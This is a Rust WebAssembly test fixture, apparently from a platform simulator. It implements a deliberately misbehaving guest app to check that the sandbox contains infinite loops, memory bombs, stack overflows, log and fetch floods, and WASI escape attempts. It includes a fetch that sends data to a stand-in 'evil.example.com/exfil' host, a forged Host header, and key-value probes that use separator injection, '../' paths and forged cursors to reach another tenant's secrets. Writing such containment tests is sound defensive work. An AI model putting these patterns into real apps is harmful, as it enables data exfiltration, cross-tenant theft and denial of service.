//! A misbehaving app (issue #5, item 10): one resolver per kind of misbehaviour, chosen by
//! name. Each must be contained by the host with the right typed error, and recorded.

wit_bindgen::generate!({ world: "app", path: "../../crates/sim/wit" });

use std::hint::black_box;

use signoff::forge::{context, fetch, kvs, log};

struct Hostile;

impl Guest for Hostile {
    fn resolver(name: String, payload: String) -> Result<String, PlatformError> {
        match name.as_str() {
            "spin" => {
                let mut n = 0u64;
                loop {
                    n = black_box(n.wrapping_add(1));
                }
            }
            "bomb" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(black_box(vec![1u8; 1 << 20]));
                }
            }
            "recurse" => Ok(recurse(black_box(0)).to_string()),
            "recurse-shadow" => Ok(recurse_shadow(black_box(0)).to_string()),
            "panic" => panic!("the app gave up"),
            "fetch-undeclared" => get("https://evil.example.com/exfil?data=secret", vec![]),
            "forged-host" => get(
                "https://api.allowed.example.com/v1",
                vec![("Host".into(), "evil.example.com".into())],
            ),
            "insecure" => get("http://api.allowed.example.com/v1", vec![]),
            "fetch-flood" => {
                for _ in 0..150 {
                    get("https://api.allowed.example.com/v1", vec![])?;
                }
                Ok("null".into())
            }
            "other-installation" => Ok(other_installation(&payload)),
            "oversized" => {
                let value = format!("\"{}\"", "x".repeat(300 * 1024));
                kvs::set(
                    "big",
                    &value,
                    kvs::SetOptions {
                        ttl_ms: None,
                        fail_if_exists: false,
                    },
                )?;
                Ok("null".into())
            }
            "log-flood" => {
                for i in 0..10_000 {
                    log::write(log::Level::Info, &format!("line {i}"));
                }
                Ok("null".into())
            }
            // WASI stdout and stderr become log lines, in order with the `log` import's.
            "print" => {
                println!("out 1");
                eprintln!("err 1");
                log::write(log::Level::Info, "logged");
                // Rust's stdout keeps a line until its newline, or a flush.
                print!("out 2 without a newline");
                std::io::Write::flush(&mut std::io::stdout()).ok();
                Ok("null".into())
            }
            // A megabyte of output: cut at the log limits, counted, never a failure.
            "print-flood" => {
                for i in 0..20_000 {
                    println!("line {i} {}", "x".repeat(40));
                }
                Ok("null".into())
            }
            "not-json" => Ok("this is not JSON".into()),
            // Every way out through WASI: each must fail or see nothing.
            "escape" => {
                let fs = match std::fs::read_dir("/") {
                    Ok(d) => format!("listed {}", d.count()),
                    Err(_) => "error".into(),
                };
                let write = match std::fs::write("/tmp/out", b"x") {
                    Ok(()) => "written",
                    Err(_) => "error",
                };
                let tcp = match std::net::TcpStream::connect("93.184.216.34:443") {
                    Ok(_) => "connected",
                    Err(_) => "error",
                };
                let dns = match std::net::ToSocketAddrs::to_socket_addrs("example.com:443") {
                    Ok(_) => "resolved",
                    Err(_) => "error",
                };
                Ok(format!(
                    r#"{{"fs":{},"write":{},"tcp":{},"dns":{},"env":{},"args":{}}}"#,
                    q(&fs),
                    q(write),
                    q(tcp),
                    q(dns),
                    std::env::vars().count(),
                    std::env::args().count()
                ))
            }
            "huge-answer" => Ok(format!("\"{}\"", "x".repeat(6 * 1024 * 1024))),
            other => Err(PlatformError {
                code: "UNKNOWN_RESOLVER".into(),
                message: format!("no resolver named `{other}`"),
            }),
        }
    }

    fn on_event(_event: String) -> Result<(), PlatformError> {
        Ok(())
    }

    fn on_schedule(_key: String) -> Result<(), PlatformError> {
        Ok(())
    }

    /// Answers a body that is not JSON while saying it is.
    fn web_trigger(_request: WebRequest) -> Result<WebResponse, PlatformError> {
        Ok(WebResponse {
            status_code: 200,
            headers: vec![("Content-Type".into(), vec!["application/json".into()])],
            body: "<html>surprise</html>".into(),
        })
    }

    /// The `spin` queue never finishes: the function's `timeoutSeconds` must stop it.
    fn consume(queue: String, _payload: String) -> Result<(), PlatformError> {
        let mut n = 0u64;
        while queue == "spin" {
            n = black_box(n.wrapping_add(1));
        }
        Ok(())
    }
}

/// Recursion that only uses the wasm call stack (no address-taken locals, two calls so it
/// cannot become a loop): it ends in the engine's stack-overflow trap.
fn recurse(n: u64) -> u64 {
    if n == u64::MAX {
        return n;
    }
    let a = recurse(n + 1);
    let b = recurse(n + 2);
    a ^ b
}

/// Recursion whose frames live on the shadow stack Rust keeps in linear memory: it runs off
/// the bottom of linear memory (an out-of-bounds trap) before the wasm call stack fills up.
#[allow(unconditional_recursion)]
fn recurse_shadow(n: u64) -> u64 {
    let buf = black_box([n; 16]);
    recurse_shadow(black_box(buf[3] + 1)).wrapping_add(buf[7])
}

fn get(url: &str, headers: Vec<(String, String)>) -> Result<String, PlatformError> {
    let r = fetch::fetch(&fetch::Request {
        method: "GET".into(),
        url: url.into(),
        headers,
        body: String::new(),
    })?;
    Ok(r.status.to_string())
}

/// Tries every way the API offers to reach the installation named in `victim`: keys with
/// the store's internal separator, path tricks, a forged query cursor pointing into the
/// victim's key space, and a query of everything. Answers what each attempt returned, as
/// JSON: `{"<attempt>": "<value or error code>"}`.
fn other_installation(victim: &str) -> String {
    let c = context::current();
    let sep = '\u{1f}';
    let mut out = Vec::new();
    let mut record = |what: &str, r: Result<Option<String>, PlatformError>| {
        let shown = match r {
            Ok(Some(v)) => v,
            Ok(None) => "none".into(),
            Err(e) => e.code,
        };
        out.push(format!("{}:{}", q(what), q(&shown)));
    };
    record("plain", kvs::get("secret-of-a"));
    record(
        "separator",
        kvs::get(&format!(
            "x{sep}{}{sep}{victim}{sep}ksecret-of-a",
            c.environment
        )),
    );
    record("dotdot", kvs::get(&format!("../{victim}/secret-of-a")));
    record("secret", kvs::get_secret("secret-of-a"));
    let physical = format!("{}{sep}{}{sep}{victim}{sep}k", c.app_id, c.environment);
    let cursor: String = physical.bytes().map(|b| format!("{b:02x}")).collect();
    record(
        "cursor",
        kvs::query("", Some(100), Some(&cursor)).map(|p| Some(p.results.len().to_string())),
    );
    record(
        "query-all",
        kvs::query("", Some(100), None).map(|p| Some(p.results.len().to_string())),
    );
    format!("{{{}}}", out.join(","))
}

fn q(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

export!(Hostile);
